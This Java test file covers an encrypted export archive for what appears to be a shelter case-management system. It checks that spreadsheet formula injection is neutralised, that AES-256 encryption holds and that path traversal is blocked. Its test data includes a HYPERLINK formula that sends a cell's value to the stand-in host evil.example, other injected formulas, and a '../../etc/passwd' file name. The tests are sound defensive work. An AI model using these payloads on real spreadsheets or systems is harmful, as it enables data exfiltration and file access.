package org.haven.cases.documents;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.EnumSet;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import net.lingala.zip4j.exception.ZipException;
import net.lingala.zip4j.io.inputstream.ZipInputStream;
import net.lingala.zip4j.model.LocalFileHeader;
import net.lingala.zip4j.model.enums.AesKeyStrength;
import net.lingala.zip4j.model.enums.EncryptionMethod;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import tools.jackson.core.type.TypeReference;
import tools.jackson.databind.json.JsonMapper;

class ExportArchiveTests {

    static final char[] PASSWORD = "correct horse battery".toCharArray();
    static final String CHILD_NAME = "ស្រីមុំ ចាន់";
    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Open\")";

    static final Table PEOPLE = new Table(
            "people",
            List.of("Name", "Note", "=Amount"),
            List.of(
                    List.of(CHILD_NAME, HYPERLINK, "+1"),
                    List.of("Dara", "@SUM(A1:A9)", "-2"),
                    List.of("Sokha", "\t=1+1", "\r=1+1"),
                    Arrays.asList("ការវាយតម្លៃ", "plain, with \"quotes\"", null)));
    static final Table SERVICES = new Table("services", List.of("Service"), List.of(List.of("Shelter")));
    static final Set<ExportFormat> ALL = EnumSet.allOf(ExportFormat.class);

    @Test
    void archiveHoldsTheChosenFormatsOnly() throws IOException {
        assertThat(unzip(ExportArchive.toBytes(List.of(PEOPLE, SERVICES), ALL, PASSWORD), PASSWORD)
                        .keySet())
                .containsExactlyInAnyOrder("people.csv", "people.json", "services.csv", "services.json", "export.xlsx");
        assertThat(unzip(ExportArchive.toBytes(List.of(PEOPLE), EnumSet.of(ExportFormat.CSV), PASSWORD), PASSWORD)
                        .keySet())
                .containsExactly("people.csv");
    }

    @Test
    void csvIsUtf8WithByteOrderMarkAndKhmerRoundTrips() throws IOException {
        byte[] csv = unzip(ExportArchive.toBytes(List.of(PEOPLE), ALL, PASSWORD), PASSWORD)
                .get("people.csv");
        assertThat(Arrays.copyOf(csv, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        List<CSVRecord> records = parseCsv(csv);
        assertThat(records).hasSize(5);
        assertThat(records.get(1).get(0)).isEqualTo(CHILD_NAME);
        assertThat(records.get(4).get(0)).isEqualTo("ការវាយតម្លៃ");
        assertThat(records.get(4).get(1)).isEqualTo("plain, with \"quotes\"");
        assertThat(records.get(4).get(2)).isEmpty();
    }

    @Test
    void formulaCellsAreNeutralizedInCsvAndXlsx() throws IOException {
        Map<String, byte[]> files = unzip(ExportArchive.toBytes(List.of(PEOPLE), ALL, PASSWORD), PASSWORD);
        List<List<String>> expected = List.of(
                List.of("Name", "Note", "'=Amount"),
                List.of(CHILD_NAME, "'" + HYPERLINK, "'+1"),
                List.of("Dara", "'@SUM(A1:A9)", "'-2"),
                List.of("Sokha", "'\t=1+1", "'\r=1+1"));

        List<CSVRecord> csv = parseCsv(files.get("people.csv"));
        for (int r = 0; r < expected.size(); r++) {
            assertThat(csv.get(r).toList()).as("CSV row %d", r).isEqualTo(expected.get(r));
        }

        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(files.get("export.xlsx")))) {
            Sheet sheet = workbook.getSheet("people");
            for (int r = 0; r < expected.size(); r++) {
                for (int c = 0; c < 3; c++) {
                    Cell cell = sheet.getRow(r).getCell(c);
                    assertThat(cell.getCellType()).as("XLSX cell %d,%d", r, c).isEqualTo(CellType.STRING);
                    assertThat(cell.getStringCellValue())
                            .isEqualTo(expected.get(r).get(c));
                }
            }
            assertThat(sheet.getRow(4).getCell(2))
                    .as("an empty cell stays empty")
                    .isNull();
        }
    }

    @Test
    void jsonIsAnArrayOfObjectsKeepingValuesVerbatim() throws IOException {
        byte[] json = unzip(ExportArchive.toBytes(List.of(PEOPLE), ALL, PASSWORD), PASSWORD)
                .get("people.json");
        List<Map<String, Object>> rows =
                JsonMapper.builder().build().readValue(json, new TypeReference<List<Map<String, Object>>>() {});
        assertThat(rows).hasSize(4);
        Map<String, Object> first = new LinkedHashMap<>();
        first.put("Name", CHILD_NAME);
        first.put("Note", HYPERLINK);
        first.put("=Amount", "+1");
        assertThat(rows.get(0)).isEqualTo(first);
        assertThat(rows.get(3)).containsEntry("=Amount", null);
        assertThat(new String(json, StandardCharsets.UTF_8)).doesNotStartWith("\uFEFF");
    }

    @Test
    void workbookHasOneSheetPerTableNamedByExcelRules() throws IOException {
        Table odd = new Table("cases/2026: [Siem Reap]?", List.of("A"), List.of());
        Table history = new Table("History", List.of("A"), List.of());
        byte[] xlsx = unzip(
                        ExportArchive.toBytes(List.of(PEOPLE, odd, history), EnumSet.of(ExportFormat.XLSX), PASSWORD),
                        PASSWORD)
                .get("export.xlsx");
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            assertThat(workbook.getNumberOfSheets()).isEqualTo(3);
            assertThat(workbook.getSheetName(0)).isEqualTo("people");
            assertThat(workbook.getSheetName(1)).isEqualTo("cases_2026_ _Siem Reap__");
            assertThat(workbook.getSheetName(2)).isEqualTo("History_");
        }
    }

    @Test
    void sheetNamesAreShortenedAndMadeUniqueIgnoringCase() {
        String longKhmer = "ការវាយតម្លៃ".repeat(4);
        List<String> names = TableFormats.sheetNames(
                List.of("'quoted'", "Cases", "CASES", "  ", longKhmer, longKhmer, "a".repeat(40) + "'"));
        assertThat(names.subList(0, 4)).containsExactly("quoted", "Cases", "CASES (2)", "Sheet");
        assertThat(names.get(4)).isEqualTo(longKhmer.substring(0, 31));
        assertThat(names.get(5)).hasSize(31).endsWith(" (2)");
        assertThat(names.get(6)).isEqualTo("a".repeat(31));
        assertThat(new HashSet<>(names.stream().map(String::toUpperCase).toList()))
                .hasSize(names.size());
    }

    @Test
    void archiveCannotBeOpenedWithoutThePassword() {
        byte[] zip = ExportArchive.toBytes(List.of(PEOPLE), ALL, PASSWORD);
        assertThatThrownBy(() -> unzip(zip, "wrong horse battery".toCharArray()))
                .isInstanceOf(ZipException.class);
        assertThatThrownBy(() -> unzip(zip, null)).isInstanceOf(ZipException.class);
    }

    @Test
    void everyEntryIsAes256EncryptedAndNoPlaintextLeaks() throws IOException {
        byte[] zip = ExportArchive.toBytes(List.of(PEOPLE, SERVICES), ALL, PASSWORD);
        List<LocalFileHeader> headers = new ArrayList<>();
        unzip(zip, PASSWORD, headers);
        assertThat(headers).hasSize(5).allSatisfy(header -> {
            assertThat(header.isEncrypted()).isTrue();
            assertThat(header.getEncryptionMethod()).isEqualTo(EncryptionMethod.AES);
            assertThat(header.getAesExtraDataRecord().getAesKeyStrength()).isEqualTo(AesKeyStrength.KEY_STRENGTH_256);
        });
        String raw = new String(zip, StandardCharsets.ISO_8859_1);
        assertThat(raw)
                .doesNotContain("Dara", "Shelter", "HYPERLINK")
                .doesNotContain(new String(CHILD_NAME.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1));
    }

    @Test
    void shortPasswordIsRefused() {
        char[] eleven = "abcdefghijk".toCharArray();
        assertThatThrownBy(() -> ExportArchive.toBytes(List.of(PEOPLE), ALL, eleven))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("12");
        assertThat(ExportArchive.toBytes(List.of(PEOPLE), ALL, "abcdefghijkl".toCharArray()))
                .isNotEmpty();
    }

    @Test
    void generatedPasswordsAreStrongUnambiguousAndAccepted() throws IOException {
        Set<String> seen = new HashSet<>();
        for (int i = 0; i < 200; i++) {
            String password = new String(ExportArchive.generatePassword());
            assertThat(password).matches("([A-HJKMNP-Z2-9]{4}-){5}[A-HJKMNP-Z2-9]{4}");
            seen.add(password);
        }
        assertThat(seen).hasSize(200);
        char[] password = ExportArchive.generatePassword();
        assertThat(unzip(ExportArchive.toBytes(List.of(SERVICES), ALL, password), password))
                .containsKey("services.csv");
    }

    @Test
    void writingLeavesTheCallersStreamOpen() throws IOException {
        boolean[] closed = {false};
        ByteArrayOutputStream out = new ByteArrayOutputStream() {
            @Override
            public void close() {
                closed[0] = true;
            }
        };
        ExportArchive.write(List.of(SERVICES), ALL, PASSWORD, out);
        assertThat(closed[0]).isFalse();
        assertThat(unzip(out.toByteArray(), PASSWORD)).containsKey("export.xlsx");
    }

    @Test
    void tableNamesCannotEscapeTheArchiveOrCollide() throws IOException {
        Table sneaky = new Table("../../etc/passwd", List.of("A"), List.of(List.of("x")));
        assertThat(unzip(ExportArchive.toBytes(List.of(sneaky), EnumSet.of(ExportFormat.CSV), PASSWORD), PASSWORD)
                        .keySet())
                .containsExactly("______etc_passwd.csv");
        Table twin = new Table("PEOPLE", List.of("A"), List.of());
        assertThatThrownBy(() -> ExportArchive.toBytes(List.of(PEOPLE, twin), ALL, PASSWORD))
                .isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void anArchiveWithoutTablesOrFormatsIsRefused() {
        assertThatThrownBy(() -> ExportArchive.toBytes(List.of(), ALL, PASSWORD))
                .isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> ExportArchive.toBytes(List.of(PEOPLE), EnumSet.noneOf(ExportFormat.class), PASSWORD))
                .isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void tablesWithRaggedRowsOrDuplicateColumnsAreRefused() {
        assertThatThrownBy(() -> new Table("t", List.of("A", "B"), List.of(List.of("only one"))))
                .isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> new Table("t", List.of("A", "A"), List.of()))
                .isInstanceOf(IllegalArgumentException.class);
    }

    static Map<String, byte[]> unzip(byte[] zip, char[] password) throws IOException {
        return unzip(zip, password, new ArrayList<>());
    }

    static Map<String, byte[]> unzip(byte[] zip, char[] password, List<LocalFileHeader> headers) throws IOException {
        Map<String, byte[]> files = new LinkedHashMap<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip), password)) {
            for (LocalFileHeader header; (header = in.getNextEntry()) != null; ) {
                headers.add(header);
                files.put(header.getFileName(), in.readAllBytes());
            }
        }
        return files;
    }

    static List<CSVRecord> parseCsv(byte[] csv) throws IOException {
        String text = new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8);
        try (CSVParser parser = CSVParser.parse(text, CSVFormat.DEFAULT)) {
            return parser.getRecords();
        }
    }
}
